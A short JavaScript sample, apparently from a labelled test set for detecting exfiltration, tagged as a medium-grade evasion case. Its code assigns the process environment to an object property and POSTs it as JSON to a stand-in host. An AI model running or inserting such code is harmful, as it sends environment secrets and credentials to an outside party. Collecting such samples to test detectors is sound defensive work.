// evasion: the whole environment assigned to a property of a plain object, serialised from the property and posted
// grade: medium; does: exfil
const env = {};
env.vars = process.env;
fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(env.vars) });
